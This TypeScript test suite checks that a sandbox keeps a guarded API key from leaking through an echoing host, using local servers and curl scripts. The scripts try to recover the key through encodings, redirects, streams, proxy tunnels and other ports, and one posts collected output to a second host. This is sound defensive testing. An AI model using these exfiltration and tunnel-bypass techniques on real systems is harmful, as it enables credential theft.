/** Tests that a host which repeats what it gets reveals no guarded secret to a sandboxed program, nor sends it elsewhere. */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { createServer as createPlain } from 'node:http';
import { createServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { createServer as createRaw } from 'node:net';
import { join } from 'node:path';
import type { TestContext } from 'node:test';
import { describe, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import type { GuardedSecretPlan, SandboxPlan } from '../../../schemas/generated/types.ts';
import { atEnd } from '../../helpers/at-end.ts';
import { reveals } from '../../helpers/secret-spellings.ts';
import { tempDir } from '../../helpers/temp-dir.ts';
import { noSandbox, runSandboxed, USERS } from './run-sandboxed.ts';

const [user = 'plain'] = USERS;
const KEY = 'sk-test-9Qz/T+w4kxAa0L2bN7yD&model=1f2c';
const bytes = Buffer.from(KEY);
const reversed = [...KEY].reverse().join('');

const ENCODINGS: Readonly<Record<string, string>> = {
  verbatim: KEY,
  reversed,
  base64: bytes.toString('base64'),
  base64url: bytes.toString('base64url'),
  'base64-1': Buffer.from(`x${KEY}y`).toString('base64'),
  'base64-2': Buffer.from(`xy${KEY}z`).toString('base64url'),
  hex: bytes.toString('hex'),
  HEX: bytes.toString('hex').toUpperCase(),
  percent: encodeURIComponent(KEY),
  json: [...KEY].map((char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
  html: [...KEY].map((char) => `&#${char.charCodeAt(0)};`).join(''),
  'reversed-base64': Buffer.from(reversed).toString('base64'),
};

/** An HTTPS server that answers `/<place>/<encoding>` with the key that it has got, and remembers requests. */
async function startHost(t: TestContext, elsewhere = '') {
  const root = tempDir(t);
  const [key, cert] = [join(root, 'key.pem'), join(root, 'cert.pem')];
  const names = ['-subj', '/CN=host', '-addext', 'subjectAltName=IP:127.0.0.1,DNS:localhost'];
  spawnSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', key, '-out', cert, ...names]);
  const got: { readonly url: string; readonly headers: string; readonly body: string }[] = [];
  let go = () => {};
  const answer = (request: IncomingMessage, response: ServerResponse): void => {
    const [, place = '', encoding = ''] = request.url?.split('/') ?? [];
    const text = request.headers.authorization?.includes(KEY) === true ? (ENCODINGS[encoding] ?? KEY) : 'no key';
    if (place === 'go') go();
    if (place === 'header') response.setHeader('x-echo', text).setHeader('set-cookie', [text, `a=${text}`]);
    if (place === 'redirect') response.writeHead(302, { location: `${elsewhere}/?k=${text}` });
    if (place === 'error') response.writeHead(401, `Bad key ${text}`);
    if (place === 'gzip') response.setHeader('content-encoding', 'gzip').end(gzipSync(text));
    else if (place === 'stream') {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(`data: {"delta":"first"}\n\n`);
      // The second part follows only when the program has read the first one.
      go = () => {
        response.write(`data: ${text.slice(0, 7)}`);
        setTimeout(() => response.end(`${text.slice(7, 20)}\n${text.slice(20)}\n\n`), 50);
      };
    } else if (place === 'events') {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      const parts = text.match(/.{1,5}/gs) ?? [];
      const next = (): void => {
        const part = parts.shift();
        if (part === undefined) response.end('\n\n');
        else response.write(part, () => setImmediate(next));
      };
      response.write('data: ', next);
    } else if (place !== 'part') response.end(`{"error":"${text}"}`);
    else {
      const [, from, to] = /=(\d+)-(\d+)/.exec(request.headers.range ?? '=0-999') ?? [];
      response.end(text.slice(Number(from), Number(to) + 1));
    }
  };
  const server = createServer({ key: readFileSync(key), cert: readFileSync(cert) }, (request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => {
      body += chunk.toString();
    });
    request.on('end', () => {
      got.push({ url: request.url ?? '', headers: JSON.stringify(request.headers), body });
      answer(request, response);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  atEnd(t, () => void server.close());
  return { port: (server.address() as AddressInfo).port, key, cert, got };
}

async function runThere(t: TestContext, script: string, guarded: Partial<GuardedSecretPlan> = {}, secret = KEY) {
  const root = tempDir(t);
  const home = join(root, 'home');
  mkdirSync(join(home, 'work'), { recursive: true });
  const other = await startHost(t);
  const host = await startHost(t, `https://localhost:${other.port}`);
  const readers = await startReaders(t, host);
  const network = [`localhost:${other.port}`, ...[host.port, ...readers].map((port) => `127.0.0.1:${port}`)];
  const plan: SandboxPlan = { network, read: [], write: [] };
  const walls = { onlyTo: { KEY: { only_to: [`127.0.0.1:${host.port}`], header: 'Authorization', ...guarded } } };
  const env = {
    KEY: secret,
    HOST: `https://127.0.0.1:${host.port}`,
    OTHER: `https://localhost:${other.port}`,
    READERS: readers.join(' '),
    NODE_EXTRA_CA_CERTS: host.cert,
  };
  const run = { argv: ['bash', '-c', script], stdin: '', cwd: join(home, 'work/run'), plan, walls, env };
  const [result] = await runSandboxed(user, { home, userHome: join(root, 'user'), hidden: [], runs: [run] });
  return { stdout: result?.stdout ?? '', stderr: result?.stderr ?? '', denied: result?.denied ?? [], host, other };
}

/** Ports of the same host that return its key: HTTP, HTTPS, and bytes without a protocol. */
async function startReaders(t: TestContext, { key, cert }: { readonly key: string; readonly cert: string }) {
  const respond = (_: unknown, response: ServerResponse) => {
    response.writeHead(200, { 'x-key': KEY, trailer: 'x-end', 'transfer-encoding': 'chunked' });
    response.write(`[${KEY}]`);
    response.addTrailers({ 'x-end': KEY });
    response.end();
  };
  const servers = [
    createPlain(respond),
    createServer({ key: readFileSync(key), cert: readFileSync(cert) }, respond),
    createRaw((socket) => void socket.on('error', () => {}).end(`RAW ${KEY}`)),
  ];
  const ports: number[] = [];
  for (const server of servers) {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    atEnd(t, () => void server.close());
    ports.push((server.address() as AddressInfo).port);
  }
  return ports;
}

const AUTH = '-H "authorization: Bearer $KEY"';

/** Neither as it is, nor decoded, nor in reverse, nor in capitals, nor over lines. */
function assertHidden(text: string): void {
  const turned = [...text].reverse().join('');
  for (const each of [text, turned, text.replace(/\n(?:data: )?/g, '')]) {
    assert.ok(!reveals(Buffer.from(each), KEY), each);
    assert.ok(!reveals(Buffer.from(each), reversed), each);
  }
}

describe('a host that repeats what it gets', { skip: noSandbox }, () => {
  test('reveals the secret in no encoding, in headers, bodies, errors, redirects, streams and parts', async (t) => {
    const places = ['header', 'body', 'error', 'redirect', 'events'];
    const all = places.flatMap((place) => Object.keys(ENCODINGS).map((encoding) => `$HOST/${place}/${encoding}`));
    const parts = '-H "range: bytes=0-19" $HOST/part/verbatim';
    const script = `curl -sSkiL --location-trusted ${AUTH} ${all.join(' ')} >seen; curl -sSk ${AUTH} ${parts} >>seen; curl -sSk ${AUTH} -X TRACE $HOST/body/hex >>seen
curl -sSk ${AUTH} --data-binary @seen $OTHER/collect; cat seen`;
    const { stdout, host, other } = await runThere(t, script);
    assert.equal(host.got.filter(({ headers }) => headers.includes(KEY)).length, all.length + 2, stdout.slice(-500));
    assertHidden(stdout);
    assert.ok(!stdout.includes(KEY.slice(0, 20)));
    assert.equal(other.got.length, Object.keys(ENCODINGS).length + 1);
    assertHidden(JSON.stringify(other.got));
    assert.ok(stdout.includes('placeholder-'));
  });

  test('still streams, and reveals nothing in the stream or by compression', async (t) => {
    const script = `exec 5< <(curl -sSkN ${AUTH} $HOST/stream/verbatim); read -t 20 line <&5; echo "$line"; curl -sSk $HOST/go; cat <&5
curl -sSk --compressed ${AUTH} $HOST/gzip/verbatim | od -c; curl -sSk -o /dev/null -w '%{http_code}' ${AUTH} $HOST/gzip/verbatim`;
    const { stdout } = await runThere(t, script);
    assert.match(stdout, /^data: \{"delta":"first"\}\n\{"error":"no key"\}.*placeholder-/s);
    assertHidden(stdout);
    assert.match(stdout, /502$/);
  });

  test('gets the secret in the named header only, not in a query, a body, other headers, over HTTP or at another port', async (t) => {
    const script = `curl -sSk -H "x-api-key: $KEY" -H "cookie: $KEY" -u "$KEY:" -d "k=$KEY" "$HOST/body/verbatim?k=$KEY"
curl -sSk ${AUTH} "\${HOST/https/http}/body/verbatim"; curl -sSk ${AUTH} -H "host: 127.0.0.1" --connect-to "::\${OTHER#https://}" $HOST/body/hex; curl -sSk ${AUTH} $OTHER/body/hex`;
    const { stdout, host, other } = await runThere(t, script);
    assertHidden(stdout);
    assertHidden(JSON.stringify([...host.got.map(({ url, body }) => [url, body]), other.got]));
    assert.ok(!JSON.stringify(host.got[0]).includes(KEY));
    assert.equal(
      other.got.every(({ headers }) => !headers.includes(KEY)),
      true,
    );
  });

  test('reveals the secret at no other port of it, and no tunnel to it', async (t) => {
    const script = `set -- $READERS
for how in '' -I --http1.0 '-H connection:upgrade -H upgrade:websocket' '-r 1-9' --raw; do curl -sSki $how http://127.0.0.1:$1/ https://127.0.0.1:$2/ http://127.1:$1/ 2>&1; done
for port in $1 $3 \${HOST##*:}; do
  curl -sSki -m 5 --proxytunnel http://127.0.0.1:$port/ 2>&1; curl -sSki -m 5 -x socks5h://\${ALL_PROXY#*://} http://127.0.0.1:$port/ 2>&1
done; curl -sSki -m 5 -x socks5h://\${ALL_PROXY#*://} https://127.0.0.1:$2/ 2>&1`;
    const { stdout, denied } = await runThere(t, script);
    assertHidden(stdout);
    assert.ok(!stdout.includes('RAW'), stdout);
    assert.ok((stdout.match(/\[placeholder-/g)?.length ?? 0) >= 12, stdout);
    assert.equal(denied.filter((each) => /^127\.0\.0\.1:\d+: /.test(each)).length, 4, denied.join('\n'));
  });

  test('is not dangerous for a secret that cannot be recognised in every spelling, because nothing runs', async (t) => {
    for (const secret of [
      'sk-%25abcdefgh',
      'sk-52%abcdefgh',
      'sk&AMP;abcdefgh',
      'sk\\\\abcdefgh',
      'sk\\u005cabcdefgh',
    ]) {
      const { stdout, stderr, host } = await runThere(t, `echo ran; curl -sSk ${AUTH} $HOST/body/verbatim`, {}, secret);
      assert.deepEqual([stdout, host.got], ['', []], secret);
      assert.ok(!stderr.includes(secret), stderr);
    }
  });

  test('gets the secret in a body only with `in: body`', async (t) => {
    const script =
      'curl -sSk -d "a=1&k=$KEY&b=2" $HOST/body/verbatim; head -c 300000 /dev/zero | tr "\\0" x >big; echo -n "$KEY" >>big; curl -sSk --data-binary @big $HOST/body/verbatim';
    const { stdout, host } = await runThere(t, script, { in: 'body' });
    assert.deepEqual(
      host.got.map(({ body }) => [body.length, body.endsWith(KEY) || body.includes(`k=${KEY}&`)]),
      [
        [8 + KEY.length + 2, true],
        [300_000 + KEY.length, true],
      ],
    );
    assertHidden(stdout);
  });
});
